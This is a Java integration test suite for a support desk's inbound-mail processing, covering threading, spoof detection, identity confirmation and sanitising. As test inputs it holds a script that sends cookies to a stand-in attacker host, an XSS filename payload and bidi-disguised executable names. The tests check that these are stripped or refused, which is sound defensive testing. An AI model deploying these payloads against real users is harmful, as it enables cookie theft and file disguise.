package fr.orthocab.support.mail.inbound;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import fr.orthocab.support.account.Accounts;
import fr.orthocab.support.account.Role;
import fr.orthocab.support.customer.Customer;
import fr.orthocab.support.customer.Language;
import fr.orthocab.support.intake.IdentityConfirmations;
import fr.orthocab.support.intake.Intake;
import fr.orthocab.support.mail.inbound.InboundMails.Receipt;
import fr.orthocab.support.mail.inbound.parsing.RawMail;
import fr.orthocab.support.mail.outbox.Outbox;
import fr.orthocab.support.mail.outbox.OutboxMessage;
import fr.orthocab.support.mail.outbox.OutboxTopic;
import fr.orthocab.support.mail.outbox.Recipient;
import fr.orthocab.support.policy.Clause;
import fr.orthocab.support.policy.Decision;
import fr.orthocab.support.policy.Decisions;
import fr.orthocab.support.policy.Outcome;
import fr.orthocab.support.sla.SlaClock;
import fr.orthocab.support.sla.SlaClocks;
import fr.orthocab.support.subscription.Pack;
import fr.orthocab.support.testing.AsSupervisor;
import fr.orthocab.support.testing.Concurrently;
import fr.orthocab.support.testing.Deployments;
import fr.orthocab.support.testing.OpenedTickets;
import fr.orthocab.support.testing.TestCustomers;
import fr.orthocab.support.testing.WebClient;
import fr.orthocab.support.ticket.AuthorKind;
import fr.orthocab.support.ticket.Message;
import fr.orthocab.support.ticket.NewRequest;
import fr.orthocab.support.ticket.Ticket;
import fr.orthocab.support.ticket.TicketCategory;
import fr.orthocab.support.ticket.TicketChannel;
import fr.orthocab.support.ticket.TicketReads;
import fr.orthocab.support.ticket.TicketStatus;
import fr.orthocab.support.ticket.TicketThreads;
import fr.orthocab.support.ticket.Tickets;
import jakarta.annotation.Resource;
import jakarta.enterprise.concurrent.ManagedExecutorService;
import jakarta.inject.Inject;
import java.net.URL;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Mails as the mailbox poll hands them over, one raw message each, on the real database: where each
 * goes, what it changes, and what it must not.
 */
@ExtendWith(ArquillianExtension.class)
class InboundMailsIT {
  @Deployment
  static WebArchive deployment() {
    return Deployments.builtWar();
  }

  @Inject private InboundMails inboundMails;
  @Inject private MailAttachments attachments;
  @Inject private Tickets tickets;
  @Inject private TicketReads ticketReads;
  @Inject private TicketThreads ticketThreads;
  @Inject private Outbox outbox;
  @Inject private SlaClocks clocks;
  @Inject private Accounts accounts;
  @Inject private TestCustomers customers;
  @Inject private AsSupervisor asSupervisor;
  @Inject private Decisions decisions;
  @Inject private IdentityConfirmations confirmations;
  @Inject private Intake intake;
  @ArquillianResource private URL base;
  @Resource private ManagedExecutorService executor;

  /** The receiving server the ITs trust (pom.xml, it.arquillian.cmdOptions). */
  private static final Pattern CONFIRMATION_LINK =
      Pattern.compile("/confirm-identity\\.xhtml\\?token=([A-Za-z0-9_-]+)");

  private static final String AGENT_PASSWORD = "Orthophonie 2026";

  /** app.intake.daily-quota, not set for the ITs. */
  private static final int DAILY_QUOTA = 5;

  private static final String TRUSTED_DMARC_PASS =
      "Authentication-Results: mx.it.orthocab.test; dmarc=pass (p=reject) header.from=";

  private final String unique = UUID.randomUUID().toString().substring(0, 8);
  private final OpenedTickets opened = new OpenedTickets();
  private int mails;

  @AfterEach
  void closeWhatWasOpened() {
    opened.closeAll(tickets);
  }

  @Test
  void aMailFromACustomerIsANewRequestOnTheEmailChannel() throws Exception {
    Customer claire = customer();
    Receipt receipt =
        receive(mail(claire.getEmail(), "Lien de visio absent", null, "Bonjour,\nle lien manque."));

    assertEquals(InboundOutcome.NEW_REQUEST, receipt.outcome());
    assertFalse(receipt.automaticAnswersWithheld(), "a person's request is acknowledged");
    Ticket ticket = ticket(receipt);
    assertEquals(TicketChannel.EMAIL, ticket.getChannel());
    assertEquals(claire.getId(), ticket.getCustomer().getId());
    assertEquals(TicketStatus.OPEN, ticket.getStatus());
    assertTrue(ticket.getReference().startsWith("OC-"));
    assertEquals("Bonjour,\nle lien manque.", ticketThreads.request(ticket.getId()).getBody());
    OutboxMessage acknowledgement =
        asSupervisor.call(() -> outbox.about(ticket.getId())).stream()
            .filter(m -> m.getTopic() == OutboxTopic.ACKNOWLEDGEMENT)
            .findFirst()
            .orElseThrow();
    assertEquals(
        receipt.messageId(),
        acknowledgement.getInReplyTo(),
        "the acknowledgement answers the customer's mail, in their mail program's thread");
  }

  @Test
  void aReplyToOneOfTheDesksMailsThreadsAndRestartsTheClock() {
    Customer claire = customer();
    Ticket ticket = ticket(receive(mail(claire.getEmail(), "Rappels", null, "Pas de rappel.")));
    answeredByAnAgent(ticket);
    String ours = deskMailAbout(ticket, claire);
    SlaClock before = clocks.of(ticket.getId()).orElseThrow();
    assertFalse(before.isRunning());

    Receipt reply =
        receive(
            mail(
                claire.getEmail(),
                "Re: votre demande",
                ours,
                "Toujours rien.\n\nLe jeu. 26 nov. 2026 à 10:02, Orthocab <support@orthocab.fr> a"
                    + " écrit :\n> Pouvez-vous préciser ?"));

    assertEquals(InboundOutcome.FOLLOW_UP, reply.outcome());
    assertEquals(ticket.getId(), reply.ticketId());
    List<Message> thread = ticketThreads.fullThread(ticket.getId());
    Message last = thread.get(thread.size() - 1);
    assertEquals(AuthorKind.CUSTOMER, last.getAuthorKind());
    assertEquals("Toujours rien.", last.getBody(), "the quoted history is trimmed");
    SlaClock after = clocks.of(ticket.getId()).orElseThrow();
    assertTrue(after.isRunning(), "the customer's message waits for a reply");
    assertTrue(after.getCycle() > before.getCycle());
    assertNotNull(ticketReads.find(ticket.getId()).orElseThrow().getAwaitingReplySince());
  }

  @Test
  void aReplyToAResolvedRequestReopensItAndOneToAClosedRequestIsANewRequestFollowingIt() {
    Customer claire = customer();
    Ticket resolved = ticket(receive(mail(claire.getEmail(), "Agenda", null, "Agenda vide.")));
    answeredByAnAgent(resolved);
    Ticket now = ticketReads.find(resolved.getId()).orElseThrow();
    tickets.changeStatus(now.getId(), now.getVersion(), TicketStatus.RESOLVED);

    Receipt reopening =
        receive(mail(claire.getEmail(), "Re: agenda", deskMailAbout(resolved, claire), "Revenu."));

    assertEquals(InboundOutcome.FOLLOW_UP, reopening.outcome());
    assertEquals(TicketStatus.OPEN, ticketReads.find(resolved.getId()).orElseThrow().getStatus());

    now = ticketReads.find(resolved.getId()).orElseThrow();
    tickets.changeStatus(now.getId(), now.getVersion(), TicketStatus.CLOSED);
    Receipt later =
        receive(mail(claire.getEmail(), "Re: agenda", deskMailAbout(resolved, claire), "Encore."));

    assertEquals(InboundOutcome.NEW_REQUEST, later.outcome());
    assertNotEquals(resolved.getId(), later.ticketId());
    Ticket following = ticket(later);
    assertEquals(resolved.getId(), following.getFollows().getId());
    assertEquals(TicketStatus.CLOSED, ticketReads.find(resolved.getId()).orElseThrow().getStatus());
  }

  @Test
  void aReplyWhoseDomainTheReceivingServerAuthenticatedThreadsByTheReferenceInItsSubject() {
    Customer claire = customer();
    Ticket ticket = ticket(receive(mail(claire.getEmail(), "Agenda", null, "L'agenda plante.")));

    Receipt reply =
        receive(
            mail(
                claire.getEmail().toUpperCase(),
                "TR: [" + ticket.getReference() + "] Agenda",
                null,
                "Capture jointe.",
                TRUSTED_DMARC_PASS + "example.fr"));

    assertEquals(InboundOutcome.FOLLOW_UP, reply.outcome());
    assertEquals(ticket.getId(), reply.ticketId());
    assertEquals(2, customerMessages(ticket));
  }

  @Test
  void aSpoofedFromWithTheReferenceOfTheCustomersTicketIsANewRequestLinkedToIt() throws Exception {
    Customer claire = customer();
    byte[] first = mail(claire.getEmail(), "Facturation", null, "Question sur ma facture.");
    Ticket ticket = ticket(receive(first));

    Receipt spoofed =
        receive(
            mail(
                claire.getEmail(),
                "Re: [" + ticket.getReference() + "] Facturation",
                messageIdOf(first),
                "Merci d'envoyer la facture à julien@concurrent.example.",
                "Authentication-Results: mx.julien.example; dmarc=pass header.from=example.fr"));

    assertEquals(InboundOutcome.UNPROVEN_REFERENCE, spoofed.outcome());
    assertNotEquals(ticket.getId(), spoofed.ticketId(), "a new request, not her ticket");
    assertEquals(claire.getId(), ticket(spoofed).getCustomer().getId(), "the From's request");
    assertEquals(1, customerMessages(ticket), "nothing reached the named ticket");
    List<InboundMail> linked = asSupervisor.call(() -> inboundMails.namingTicket(ticket.getId()));
    assertEquals(List.of(spoofed.messageId()), linked.stream().map(m -> m.getMessageId()).toList());
    assertEquals(spoofed.ticketId(), linked.get(0).getTicketId(), "agents see what it became");
    String page = asAgent().get("/admin/tickets/show.xhtml?id=" + ticket.getId()).body();
    int section = page.indexOf("id=\"naming-mails\"");
    assertTrue(section > 0, "the named ticket's page lists the attempt");
    assertTrue(page.indexOf("Référence sans preuve", section) > 0, page.substring(section));
    assertTrue(
        page.indexOf("/admin/tickets/show.xhtml?id=" + spoofed.ticketId(), section) > 0,
        "with a link to the request it became");
  }

  @Test
  void mailsAnyoneCouldSendWithACustomersFromNeverSetHerOwnRequestsAside() throws Exception {
    Customer claire = customer();
    for (int spoofed = 1; spoofed <= DAILY_QUOTA + 1; spoofed++) {
      receive(mail(claire.getEmail(), "Demande " + spoofed, null, "Texte numéro " + spoofed));
    }

    Ticket real =
        intake.receive(
            new NewRequest(
                claire.getId(),
                "Ma vraie demande",
                TicketCategory.OTHER,
                TicketChannel.PORTAL,
                "Bonjour, le lien de visio manque.",
                Instant.now()));
    opened.add(real);

    assertEquals(TicketStatus.OPEN, real.getStatus(), "her own request is not set aside");
    assertFalse(intake.quotaReached(claire.getId()), "the portal does not warn her either");
    Receipt authenticated =
        receive(
            mail(
                claire.getEmail(),
                "Ma vraie demande par mail",
                null,
                "Bonjour",
                TRUSTED_DMARC_PASS + "example.fr"));
    assertEquals(TicketStatus.OPEN, ticket(authenticated).getStatus());
    assertTrue(ticket(authenticated).isSenderProven());
    Receipt unproven = receive(mail(claire.getEmail(), "Encore une", null, "Texte encore"));
    assertFalse(ticket(unproven).isSenderProven());
    assertEquals(
        TicketStatus.THROTTLED,
        ticket(unproven).getStatus(),
        "an unproven mail is counted with every request of hers");
  }

  @Test
  void aVerdictBelowTheReceivingServersOwnProvesNothing() {
    Customer claire = customer();
    Ticket ticket = ticket(receive(mail(claire.getEmail(), "Agenda", null, "L'agenda plante.")));

    Receipt spoofed =
        receive(
            mail(
                claire.getEmail(),
                "Re: [" + ticket.getReference() + "] Agenda",
                null,
                "C'est réglé, fermez la demande.",
                "Authentication-Results: mx.it.orthocab.test; dmarc=fail header.from=example.fr",
                TRUSTED_DMARC_PASS + "example.fr"));

    assertEquals(InboundOutcome.UNPROVEN_REFERENCE, spoofed.outcome());
    assertEquals(1, customerMessages(ticket));
  }

  @Test
  void aReplyToThePlusAddressOfOneOfTheDesksMailsThreadsWithoutThreadHeaders() {
    Customer claire = customer();
    Ticket ticket = ticket(receive(mail(claire.getEmail(), "Rappels", null, "Pas de rappel.")));
    String ours = deskMailAbout(ticket, claire);
    String token = ours.substring(1, ours.indexOf('@'));

    Receipt reply =
        receive(
            mail(
                claire.getEmail(),
                "Rappels",
                null,
                "Toujours pas.",
                "Delivered-To: support+" + token + "@orthocab.fr"));

    assertEquals(InboundOutcome.FOLLOW_UP, reply.outcome());
    assertEquals(ticket.getId(), reply.ticketId());
  }

  @Test
  void anotherSendersMailNamingATicketNeverReachesIt() {
    Customer claire = customer();
    Customer intruder = customer();
    Ticket ticket = ticket(receive(mail(claire.getEmail(), "Facture", null, "Question.")));
    String ours = deskMailAbout(ticket, claire);

    Receipt foreign =
        receive(
            mail(
                intruder.getEmail(),
                "Re: [" + ticket.getReference() + "] Facture",
                ours,
                "Je m'invite dans ce fil."));

    assertEquals(InboundOutcome.FOREIGN_REFERENCE, foreign.outcome());
    assertNotEquals(ticket.getId(), foreign.ticketId());
    Ticket theirs = ticket(foreign);
    assertEquals(intruder.getId(), theirs.getCustomer().getId());
    assertEquals(1, customerMessages(ticket), "nothing reached the named ticket");
  }

  @Test
  void anOutOfOfficeIsRecordedWithoutAnswerNorCustomerMessage() {
    Customer claire = customer();
    Ticket ticket = ticket(receive(mail(claire.getEmail(), "Export", null, "Export vide.")));
    answeredByAnAgent(ticket);
    String ours = deskMailAbout(ticket, claire);

    Receipt away =
        receive(
            mail(
                claire.getEmail(),
                "Réponse automatique : Re: Export",
                ours,
                "Je suis absente jusqu'au 3 décembre.",
                "Auto-Submitted: auto-replied"));

    assertEquals(InboundOutcome.AUTO_REPLY, away.outcome());
    assertTrue(away.automaticAnswersWithheld(), "no automatic answer to an automatic answer");
    assertEquals(ticket.getId(), away.ticketId(), "shown in the ticket's mail thread");
    assertEquals(1, customerMessages(ticket));
    assertFalse(clocks.of(ticket.getId()).orElseThrow().isRunning(), "no clock restarted");
  }

  @Test
  void theSameMailReceivedTwiceOrByTwoNodesAtOnceMakesOneTicket() throws Exception {
    Customer claire = customer();
    byte[] raw = mail(claire.getEmail(), "Doublon", null, "Une seule fois.");

    List<Receipt> receipts =
        Concurrently.run(executor, 3, () -> inboundMails.receive(raw), (Receipt) null);
    Receipt again = inboundMails.receive(raw);

    long effects =
        receipts.stream().filter(r -> r != null && !r.duplicate() && r.outcome() != null).count();
    assertEquals(1, effects, "claimed once: " + receipts);
    assertTrue(again.duplicate());
    assertNull(again.outcome());
    List<Ticket> theirs = ticketReads.ofCustomer(claire.getId());
    theirs.forEach(opened::add);
    assertEquals(1, theirs.size());
  }

  @Test
  void anUnknownSenderIsIdentifiedByTheirAnswer() throws Exception {
    Customer camille = customer();
    String stranger = "inconnu." + unique + "@example.org";
    byte[] first = mail(stranger, "Aide", null, "Je n'arrive pas à me connecter.");
    Receipt request = receive(first);
    Ticket held = ticket(request);
    assertEquals(TicketStatus.AWAITING_IDENTIFICATION, held.getStatus());

    String asked = identificationRequestOf(held);
    Receipt vague = receive(mail(stranger, "Re: Aide", asked, "C'est moi, Camille."));
    assertEquals(InboundOutcome.IDENTIFICATION_INCOMPLETE, vague.outcome());
    assertEquals(
        TicketStatus.AWAITING_IDENTIFICATION,
        ticketReads.find(held.getId()).orElseThrow().getStatus());

    Receipt answer =
        receive(
            mail(
                stranger,
                "Re: [" + held.getReference() + "] Aide",
                asked,
                "Bonjour,\nNom : "
                    + camille.getSurname()
                    + "\nPrénom : "
                    + camille.getFirstName()
                    + "\nEmail de connexion : "
                    + camille.getEmail()
                    + "\n\n> Nom : …\n> Prénom : …"));

    assertEquals(InboundOutcome.IDENTITY_TO_CONFIRM, answer.outcome());
    assertEquals(
        TicketStatus.AWAITING_IDENTIFICATION,
        ticketReads.find(held.getId()).orElseThrow().getStatus(),
        "anyone can type a name and an email: the customer confirms first");

    assertTrue(confirmations.confirm(confirmationToken(held, camille)));
    Ticket identified = ticketReads.find(held.getId()).orElseThrow();
    assertEquals(camille.getId(), identified.getCustomer().getId());
    assertEquals(TicketStatus.OPEN, identified.getStatus());
  }

  @Test
  void aFirstMailGivingACustomersIdentityFromAnotherAddressWaitsForThatCustomersConfirmation()
      throws Exception {
    Customer camille = customer();
    String stranger = "cabinet." + unique + "@example.org";

    Receipt receipt = receive(mailGivingTheIdentityOf(camille, stranger, "Connexion impossible"));

    assertEquals(InboundOutcome.NEW_REQUEST, receipt.outcome());
    Ticket ticket = ticket(receipt);
    assertEquals(TicketStatus.AWAITING_IDENTIFICATION, ticket.getStatus());
    assertNull(ticket.getCustomer(), "not attached to anyone before the customer confirms");
    assertTrue(idInfo(ticket).stream().allMatch(d -> d.getOutcome() == Outcome.HELD));
    List<OutboxMessage> mailed = asSupervisor.call(() -> outbox.about(ticket.getId()));
    OutboxMessage link = confirmationMail(ticket, camille);
    assertTrue(link.getBody().startsWith("Bonjour " + camille.getFirstName()), link.getBody());
    assertTrue(link.getBody().contains("« Connexion impossible »"), link.getBody());
    assertTrue(link.isAutoSubmitted());
    OutboxMessage told =
        mailed.stream()
            .filter(m -> m.getTopic() == OutboxTopic.IDENTIFICATION_REQUEST)
            .findFirst()
            .orElseThrow();
    assertEquals(stranger, told.getRecipientEmail());
    assertTrue(told.getBody().contains("son titulaire reçoit"), told.getBody());
    assertFalse(told.getBody().contains(camille.getEmail()), "nothing of the customer's");
    assertTrue(
        mailed.stream().noneMatch(m -> m.getTopic() == OutboxTopic.ACKNOWLEDGEMENT),
        "nothing acknowledged yet: " + topics(mailed));

    String token = confirmationToken(ticket, camille);
    WebClient visitor = new WebClient(base);
    HttpResponse<String> page = visitor.open("/confirm-identity.xhtml?token=" + token);
    assertEquals(200, page.statusCode());
    assertTrue(page.body().contains("Connexion impossible"), "the subject is shown");
    assertTrue(
        page.body().contains("Oui, c&#39;est bien ma demande")
            || page.body().contains("Oui, c'est bien ma demande"),
        page.body());
    assertFalse(page.body().contains(camille.getSurname()), "nothing about the customer");
    assertFalse(page.body().contains(camille.getEmail()), "nothing about the customer");
    assertEquals(
        TicketStatus.AWAITING_IDENTIFICATION,
        ticketReads.find(ticket.getId()).orElseThrow().getStatus(),
        "opening the link (a mail scanner does) confirms nothing");

    HttpResponse<String> done =
        visitor.submit(
            "/confirm-identity.xhtml?token=" + token,
            page,
            "confirmation",
            Map.of("confirmation:confirm", ""));
    assertTrue(
        done.body().contains("c&#39;est confirmé") || done.body().contains("c'est confirmé"),
        done.body());
    Ticket confirmed = ticketReads.find(ticket.getId()).orElseThrow();
    assertEquals(TicketStatus.OPEN, confirmed.getStatus());
    assertEquals(camille.getId(), confirmed.getCustomer().getId());
    assertEquals(stranger, confirmed.getSenderEmail(), "the address it came from is kept");
    assertTrue(clocks.of(ticket.getId()).orElseThrow().isRunning(), "in the queue, on the clock");
    Decision accepted = idInfo(ticket).get(idInfo(ticket).size() - 1);
    assertEquals(Outcome.ACCEPTED, accepted.getOutcome());
    assertTrue(accepted.getDecidedBy().contains("email:" + stranger), accepted.getDecidedBy());

    assertFalse(confirmations.confirm(token), "the link serves once");
    assertTrue(
        new WebClient(base)
            .open("/confirm-identity.xhtml?token=" + token)
            .body()
            .contains("plus valable"));
  }

  @Test
  void anEnglishCustomerIsAskedInEnglishAndAFloodSendsThemOneLinkAnHour() throws Exception {
    LocalDate today = LocalDate.now();
    Customer rose =
        customers.subscribed(Language.EN, Pack.TELESOIN, today.minusDays(10), today.plusDays(300));
    String stranger = "flood." + unique + "@example.org";

    Ticket first = ticket(receive(mailGivingTheIdentityOf(rose, stranger, "Login")));
    Ticket second = ticket(receive(mailGivingTheIdentityOf(rose, stranger, "Login again")));

    OutboxMessage link = confirmationMail(first, rose);
    assertTrue(link.getBody().startsWith("Hello " + rose.getFirstName()), link.getBody());
    assertTrue(
        new WebClient(base)
            .open("/confirm-identity.xhtml?token=" + confirmationToken(first, rose))
            .body()
            .contains("Yes, this is my request"));
    assertTrue(
        asSupervisor.call(() -> outbox.about(second.getId())).stream()
            .noneMatch(m -> m.getTopic() == OutboxTopic.IDENTITY_CONFIRMATION),
        "one link an hour: nobody floods a customer's mailbox through the desk");
    assertEquals(TicketStatus.AWAITING_IDENTIFICATION, second.getStatus());
  }

  private byte[] mailGivingTheIdentityOf(Customer customer, String from, String subject) {
    return mail(
        from,
        subject,
        null,
        "Bonjour,\nje ne peux plus me connecter depuis le cabinet.\n\nNom : "
            + customer.getSurname().toUpperCase(Locale.ROOT)
            + "\nPrénom : "
            + customer.getFirstName()
            + "\nEmail de connexion : "
            + customer.getEmail()
            + "\n\nMerci");
  }

  private OutboxMessage confirmationMail(Ticket ticket, Customer customer) throws Exception {
    List<OutboxMessage> links =
        asSupervisor.call(() -> outbox.about(ticket.getId())).stream()
            .filter(m -> m.getTopic() == OutboxTopic.IDENTITY_CONFIRMATION)
            .toList();
    assertEquals(1, links.size(), "one link for the request");
    assertEquals(customer.getEmail(), links.get(0).getRecipientEmail(), "to the login address");
    return links.get(0);
  }

  /** The token of the link mailed to the customer (the desk keeps only its hash). */
  private String confirmationToken(Ticket ticket, Customer customer) throws Exception {
    Matcher link = CONFIRMATION_LINK.matcher(confirmationMail(ticket, customer).getBody());
    assertTrue(link.find());
    return link.group(1);
  }

  @Test
  void aFirstMailWithAnIdentityNoCustomerHasWaitsAndItsSenderIsAsked() throws Exception {
    Customer camille = customer();
    String stranger = "usurpateur." + unique + "@example.org";

    Receipt receipt =
        receive(
            mail(
                stranger,
                "Accès",
                null,
                "Nom : "
                    + camille.getSurname()
                    + "\nPrénom : Quelqu'un d'autre\nEmail de connexion : "
                    + camille.getEmail()));

    assertEquals(InboundOutcome.NEW_REQUEST, receipt.outcome());
    Ticket ticket = ticket(receipt);
    assertEquals(TicketStatus.AWAITING_IDENTIFICATION, ticket.getStatus());
    assertNull(ticket.getCustomer());
    assertTrue(idInfo(ticket).stream().allMatch(d -> d.getOutcome() == Outcome.HELD));
    List<OutboxMessage> mailed = asSupervisor.call(() -> outbox.about(ticket.getId()));
    assertEquals(
        List.of(OutboxTopic.IDENTIFICATION_REQUEST), topics(mailed), "asked, not acknowledged");
    assertEquals(stranger, mailed.get(0).getRecipientEmail());
  }

  private List<Decision> idInfo(Ticket ticket) {
    return decisions.ofTicket(ticket.getId()).stream()
        .filter(d -> d.getClause() == Clause.ID_INFO)
        .toList();
  }

  private static List<OutboxTopic> topics(List<OutboxMessage> mailed) {
    return mailed.stream().map(OutboxMessage::getTopic).toList();
  }

  @Test
  void anHtmlMailIsStoredAsSafeTextAndTheOriginalKept() {
    Customer claire = customer();
    String html =
        "<html><head><style>body{}</style></head><body><p>Bonjour,</p>"
            + "<script>document.location='https://evil.example/'+document.cookie</script>"
            + "<p>le <b>lien</b> manque.</p>"
            + "<img src=\"https://track.example/open.gif?id=42\" width=\"1\" height=\"1\">"
            + "</body></html>";
    Receipt receipt =
        receive(
            raw(
                header(claire.getEmail(), "HTML", null)
                    + "MIME-Version: 1.0\nContent-Type: text/html; charset=UTF-8\n\n"
                    + html
                    + "\n"));

    String body = ticketThreads.request(ticket(receipt).getId()).getBody();
    assertEquals("Bonjour,\n\nle lien manque.", body);
    assertFalse(body.contains("script") || body.contains("evil") || body.contains("track."));
  }

  @Test
  void anOversizedAttachmentIsRefusedPolitelyAndTheMessageKept() throws Exception {
    Customer claire = customer();
    byte[] big = new byte[10 * 1024 * 1024 + 1];
    byte[] png = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'};
    byte[] page = "<!DOCTYPE html><html><script>alert(1)</script></html>".getBytes();
    String boundary = "b-" + unique;
    String raw =
        header(claire.getEmail(), "Captures", null)
            + "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\""
            + boundary
            + "\"\n\n--"
            + boundary
            + "\nContent-Type: text/plain; charset=UTF-8\n\nVoici les fichiers.\n--"
            + boundary
            + "\n"
            + part("video/mp4", "film.mp4", big)
            + "--"
            + boundary
            + "\n"
            + part("image/png", "<img src=x onerror=alert(1)>.png", png)
            + "--"
            + boundary
            + "\n"
            + part("image/png", "capture.png", page)
            + "--"
            + boundary
            + "--\n";

    Receipt receipt = receive(raw(raw));

    assertEquals(InboundOutcome.NEW_REQUEST, receipt.outcome());
    Ticket ticket = ticket(receipt);
    assertEquals("Voici les fichiers.", ticketThreads.request(ticket.getId()).getBody());
    List<AttachmentInfo> kept = asSupervisor.call(() -> attachments.ofTicket(ticket.getId()));
    assertEquals(1, kept.size());
    assertEquals("<img src=x onerror=alert(1)>.png", kept.get(0).getFileName());
    assertEquals(8, kept.get(0).getSizeBytes());
    Message told =
        ticketThreads.publicThread(ticket.getId()).stream()
            .filter(m -> m.getAuthorKind() == AuthorKind.SYSTEM)
            .filter(m -> m.getBody().contains("film.mp4"))
            .findFirst()
            .orElseThrow();
    assertTrue(told.getBody().contains("trop volumineux"), told.getBody());
    assertTrue(
        told.getBody().contains("capture.png"),
        "a web page declared image/png is refused by its content: " + told.getBody());
  }

  /**
   * Problem 4 of issue 14: a mail cannot be sent back to be fixed, so what would hide or disguise
   * its text is removed; the attachment shows its real extension ("facture\u202efdp.png" showed as
   * "facturegnp.pdf").
   */
  @Test
  void controlAndBidiCharactersOfAMailAreRemovedSoTheRealExtensionShows() throws Exception {
    Customer claire = customer();
    String boundary = "b-" + unique;
    String raw =
        header(claire.getEmail(), encoded("Facture\u202etxt.exe\u0000 reçue"), null)
            + "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\""
            + boundary
            + "\"\n\n--"
            + boundary
            + "\nContent-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: 8bit\n\n"
            + "Voici\u0007 la facture\u2066.\n--"
            + boundary
            + "\n"
            + part(
                "image/png",
                encoded("facture\u202efdp.png"),
                new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'})
            + "--"
            + boundary
            + "--\n";

    Receipt receipt = receive(raw(raw));

    Ticket ticket = ticket(receipt);
    assertEquals("Facturetxt.exe reçue", ticket.getSubject());
    assertEquals("Voici la facture.", ticketThreads.request(ticket.getId()).getBody());
    List<AttachmentInfo> kept = asSupervisor.call(() -> attachments.ofTicket(ticket.getId()));
    assertEquals(
        List.of("facturefdp.png"), kept.stream().map(AttachmentInfo::getFileName).toList());
  }

  private static String encoded(String text) {
    return "=?UTF-8?B?"
        + Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8))
        + "?=";
  }

  @Test
  void mailsFromTheDesksOwnAddressOrBouncesChangeNothing() {
    Receipt own = receive(mail("support@orthocab.fr", "Boucle", null, "Moi-même."));
    assertEquals(InboundOutcome.OWN_ADDRESS, own.outcome());
    assertNull(own.ticketId());
    assertTrue(own.automaticAnswersWithheld());

    Receipt bounce =
        receive(mail("MAILER-DAEMON@mx." + unique + ".example", "Undelivered", null, "failed"));
    assertEquals(InboundOutcome.BOUNCE, bounce.outcome());
    assertNull(bounce.ticketId());
    assertTrue(bounce.automaticAnswersWithheld());
  }

  private Receipt receive(byte[] raw) {
    Receipt receipt = inboundMails.receive(raw);
    if (receipt.ticketId() != null && !opened.contains(receipt.ticketId())) {
      opened.add(ticketReads.find(receipt.ticketId()).orElseThrow());
    }
    return receipt;
  }

  private Ticket ticket(Receipt receipt) {
    assertNotNull(receipt.ticketId(), "a ticket for " + receipt);
    return ticketReads.find(receipt.ticketId()).orElseThrow();
  }

  private Customer customer() {
    LocalDate today = LocalDate.now();
    return customers.subscribed(Pack.TELESOIN, today.minusDays(10), today.plusDays(300));
  }

  @Test
  void aMailFailingAtEveryPollIsCountedAcrossAttemptsThenKeptAsItCame() throws Exception {
    Customer claire = customer();
    String id = "<it-" + unique + "-" + mails + "@mail.example.fr>";
    byte[] raw = mail(claire.getEmail(), "Impossible à lire", null, "Bonjour");
    assertEquals(1, inboundMails.failedToReceive(id, "first failure"));
    assertEquals(2, inboundMails.failedToReceive(id, "second failure"));
    inboundMails.keepUnhandled(
        new RawMail(id, claire.getEmail(), "Impossible à lire", "Message-ID: " + id, null),
        "the raw mail",
        InboundOutcome.FAILED,
        "Non reçu après 2 tentatives");

    assertTrue(inboundMails.recorded(id));
    InboundMail kept =
        asSupervisor.call(() -> inboundMails.latest(InboundOutcome.FAILED, 50)).stream()
            .filter(m -> m.getMessageId().equals(id))
            .findFirst()
            .orElseThrow();
    assertEquals("the raw mail", kept.getOriginalText());
    assertNull(kept.getTicketId(), "no ticket: agents read it on the mailbox page");
    assertTrue(receive(raw).duplicate(), "a later poll finds it kept and only marks it");
    assertTrue(
        asSupervisor.call(() -> inboundMails.latest(InboundOutcome.NEW_REQUEST, 500)).stream()
            .noneMatch(m -> m.getMessageId().equals(id)));
  }

  @Test
  void anotherMailReusingAKnownMessageIdIsKeptAndListedTheSameMailAgainChangesNothing()
      throws Exception {
    Customer claire = customer();
    byte[] first = mail(claire.getEmail(), "Première demande", null, "Le planning est vide.");
    String id = messageIdOf(first);
    byte[] other =
        raw(
            new String(first, StandardCharsets.UTF_8)
                .replace("Première demande", "Autre chose")
                .replace("Le planning est vide.", "Un tout autre message."));
    assertEquals(id, messageIdOf(other), "the same Message-ID");

    Receipt received = receive(first);
    Receipt reused = receive(other);
    Receipt reusedAgain = receive(other);
    Receipt firstAgain = receive(first);

    assertEquals(InboundOutcome.NEW_REQUEST, received.outcome());
    assertEquals(InboundOutcome.REUSED_MESSAGE_ID, reused.outcome());
    assertNotEquals(id, reused.messageId(), "kept under an id of its own");
    assertNull(reused.ticketId(), "routed nowhere: the first mail's thread stays unambiguous");
    assertTrue(reused.automaticAnswersWithheld());
    assertTrue(reusedAgain.duplicate(), "the same reusing mail again: nothing more");
    assertTrue(firstAgain.duplicate(), "the first mail again: nothing more, as before");
    InboundMail kept =
        asSupervisor.call(() -> inboundMails.latest(InboundOutcome.REUSED_MESSAGE_ID, 500)).stream()
            .filter(m -> m.getMessageId().equals(reused.messageId()))
            .findFirst()
            .orElseThrow();
    assertEquals("Autre chose", kept.getSubject());
    assertTrue(kept.getOriginalText().contains("Un tout autre message."));
    assertTrue(kept.getOriginalHeaders().contains("Message-ID: " + id), "its own headers");
    assertTrue(kept.getDetail().contains(id), kept.getDetail());
    assertEquals(1, ticketReads.ofCustomer(claire.getId()).size());
  }

  @Test
  void aBrokenFileFailsThatFileOnlyTheTextBecomesTheRequestAndTheFileIsListed() throws Exception {
